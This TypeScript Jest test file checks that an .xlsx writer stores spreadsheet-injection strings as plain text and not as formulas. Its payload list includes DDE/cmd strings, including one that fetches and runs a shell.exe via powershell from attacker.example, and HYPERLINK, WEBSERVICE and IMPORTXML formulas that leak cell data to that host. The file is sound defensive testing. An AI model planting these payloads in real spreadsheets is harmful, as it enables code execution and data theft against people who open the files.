/**
 * Spreadsheet injection: text from data must stay text in the written .xlsx, whatever it
 * starts with. Payloads after OWASP "CSV Injection" and common DDE / HYPERLINK / WEBSERVICE
 * attacks, plus whitespace, control, right-to-left and zero-width characters and long strings.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, it } from '@jest/globals';
import { expect } from '../support/expect';
import type { SheetPlan } from '../../src/core/plans/types';
import { openWorkbookFiles } from '../../src/files/source';
import { createXlsxWriter, encodeCellText } from '../../src/files/xlsx/write/xlsx-write';
import { sheetParts } from '../../src/files/xlsx/write/xlsx-parts';
import { readZipEntries } from '../support/zip';
import { noLibreOffice, recalculateXlsxDetailed } from '../support/libreoffice';

const HOSTILE_STRINGS = [
  '=1+1',
  '=SUM(1,2)',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for report")',
  '=WEBSERVICE("http://attacker.example/"&A2)',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
  '=INDIRECT("A1")',
  '=1/0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0001=1+1',
  '\u200b=1+1',
  '\u200f=1+1',
  '\u202e=1+1 \u202dnormal',
  'שלום =1+1',
  '0123',
  '00501',
  '1e5',
  '85',
  '-3.5',
  'TRUE',
  '#N/A',
  '_x0041_ stays as typed',
  "'=quoted",
  '=' + 'A'.repeat(300),
  'long ' + 'x'.repeat(32000),
];

const dir = mkdtempSync(path.join(os.tmpdir(), 'tl-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const out = path.join(dir, 'hostile.xlsx');

function plan(): SheetPlan {
  // Headers, names and goal text columns all hold the payloads.
  const cells: SheetPlan['cells'] = [['Header ' + HOSTILE_STRINGS[0], HOSTILE_STRINGS[4], 'Goal']];
  HOSTILE_STRINGS.forEach((s, i) =>
    cells.push([s, `Ms. ${s}`, i % 2 ? s : `Raise reading to 70% ${s}`]),
  );
  return {
    key: 'goals',
    name: 'Suggested Goals',
    cells,
    tables: [{ name: 'tlGoals', rect: { row: 1, column: 1, rowCount: 2, columnCount: 3 } }],
  };
}

beforeAll(async () => {
  const writer = createXlsxWriter({
    outPath: out,
    inputs: [],
    inputFiles: [],
    previousState: null,
  });
  await writer.render([plan()], { state: { version: 1, sheets: [] } });
});

describe('hostile strings in plans stay text', () => {
  it(`has at least 30 payloads (${HOSTILE_STRINGS.length})`, () => {
    expect(HOSTILE_STRINGS.length).toBeGreaterThanOrEqual(30);
  });

  it('the sheet XML has no formula and every cell is a shared string', () => {
    const entries = readZipEntries(readFileSync(out));
    const xml = entries.get(sheetParts(entries).get('Suggested Goals')!)!.toString('utf8');
    expect(xml).not.toContain('<f>');
    const cells = xml.match(/<c r="[A-Z]+\d+"[^>]*>/g)!;
    expect(cells).toHaveLength(3 * (HOSTILE_STRINGS.length + 1));
    for (const c of cells) expect(c).toContain('t="s"');
  });

  it('reads back exactly as written, control characters included', async () => {
    const source = await openWorkbookFiles([out]);
    const t = await source.readSheet('Suggested Goals');
    expect(t.values).toEqual(plan().cells);
  });

  it('escapes text that looks like an OOXML character escape', () => {
    expect(encodeCellText('_x0041_')).toBe('_x005F_x0041_');
    expect(encodeCellText('a\rb\u0001')).toBe('a_x000D_b_x0001_');
    expect(encodeCellText('tab\tand\nnewline')).toBe('tab\tand\nnewline');
  });

  (noLibreOffice() ? it.skip : it)(
    'LibreOffice, recalculating the file, finds every payload as text',
    async () => {
      const sheet = (await recalculateXlsxDetailed(out)).get('Suggested Goals')!;
      const expected = plan().cells;
      for (let r = 0; r < expected.length; r++) {
        for (let c = 0; c < 3; c++) {
          expect(sheet.formulas[r][c], `row ${r + 1} col ${c + 1}`).toBeNull();
          expect(sheet.values[r][c], `row ${r + 1} col ${c + 1}`).toBe(expected[r][c]);
        }
      }
    },
  );
});
